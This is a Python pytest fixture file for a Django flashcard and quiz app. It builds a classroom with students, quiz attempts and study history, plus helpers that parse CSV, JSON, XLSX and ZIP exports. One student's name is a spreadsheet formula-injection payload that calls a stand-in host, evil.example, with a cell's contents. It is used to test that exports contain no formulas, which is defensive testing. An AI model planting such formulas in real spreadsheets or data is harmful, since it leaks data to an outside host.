"""A class in which things have happened: a quiz of every kind, cards studied, and some of it before anybody joined."""

import csv
import json
from collections.abc import Callable
from datetime import datetime, timedelta
from io import BytesIO, StringIO
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from django.http import HttpResponseBase
from django.test import Client

from cards.exports.scope import Scope
from cards.models import Assignment, Attempt, Classroom, Enrolment, Item, Kind, Quiz, Student, User
from cards.quiz import actions, attempts
from tests import factories
from tests.progress.builders import Past

DAY = timedelta(days=1)
# What a spreadsheet would calculate, from a person's name.
EVE = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def quiz(db: None) -> Quiz:
    items = [factories.question(kind) for kind in factories.QUESTIONS]
    return factories.quiz_of(*items, title="All kinds", slug="all-kinds", is_shuffling_questions=False)


@pytest.fixture
def take(quiz: Quiz, now: datetime) -> Callable[..., Attempt]:
    """An attempt handed in a minute later: every question right, or wrong, but for what `given` says by its kind."""

    def take(student: Student, *, is_right: bool, at: datetime = now, given: dict[str, Any] | None = None) -> Attempt:
        attempt = attempts.start(quiz=quiz, student=student, now=at)
        for slot in attempt.slots.select_related("attempt__quiz", "item").order_by("position"):
            response = factories.QUESTIONS[Kind(slot.item.kind)][1 if is_right else 2]
            response = (given or {}).get(slot.item.kind, response)
            at += timedelta(seconds=5)
            actions.save(slot=slot, step=slot.step, response=response, certainty=None, now=at)
        found = Attempt.objects.select_related("quiz", "student").get(pk=attempt.pk)
        return actions.submit(attempt=found, now=at + timedelta(minutes=1))

    return take


@pytest.fixture
def eve(db: None) -> Student:
    return factories.StudentFactory(user__username="eve_the_second", user__email="eve.second@example.org")


@pytest.fixture
def assignment(classroom: Classroom, quiz: Quiz) -> Assignment:
    return factories.AssignmentFactory(classroom=classroom, quiz=quiz, title="Week 1", points=50)


@pytest.fixture
def busy(
    classroom: Classroom, student: Student, eve: Student, stranger: Student, assignment: Assignment,
    take: Callable[..., Attempt], now: datetime,
) -> Classroom:  # fmt: skip
    """Berlin time. Sam did the quiz before joining and twice since, Eve once; a stranger is none of its business."""
    classroom.time_zone = "Europe/Berlin"
    classroom.save()
    section = factories.ClassSectionFactory(classroom=classroom, title="Tuesday")
    known = {"email": "sam.s@example.org", "number": "00123", "section": section, "joined_at": now - 10 * DAY}
    Enrolment.objects.filter(student=student).update(**known)
    factories.EnrolmentFactory(classroom=classroom, student=eve, name=EVE, joined_at=now - 10 * DAY)
    factories.RosterEntryFactory(classroom=classroom, name="Not Yet", email="not.yet@example.org")
    take(student, is_right=True, at=now - 20 * DAY)
    take(student, is_right=False, at=now - 2 * DAY, given={"short": "my name is Sam Student"})
    take(student, is_right=True, at=now - DAY)
    take(eve, is_right=True, at=now - DAY)
    take(stranger, is_right=True, at=now - DAY)
    cards: list[Item] = factories.ItemFactory.create_batch(16)
    for one in (student, eve, stranger):
        Past(one).study(cards, now, 16, new=1).save()
    return classroom


@pytest.fixture
def scope(busy: Classroom, now: datetime) -> Scope:
    return Scope(busy, now)


@pytest.fixture
def desk(instructor: User, sign_in: Any) -> Client:
    """The instructor's browser."""
    client: Client = sign_in(instructor)
    return client


@pytest.fixture
def few(monkeypatch: pytest.MonkeyPatch) -> None:
    """Two students are enough for statistics."""
    monkeypatch.setattr("cards.statistics.items.FEWEST", 1)


def content_of(response: HttpResponseBase) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"), newline="")))


def json_rows(content: bytes) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(content)
    return found


def xlsx_sheets(content: bytes) -> dict[str, list[tuple[Any, ...]]]:
    """By a reader that is not ours. No cell of it is a formula."""
    book = openpyxl.load_workbook(BytesIO(content))
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book}


def members_of(content: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(content)) as file:
        assert file.testzip() is None
        return {name: file.read(name) for name in file.namelist()}
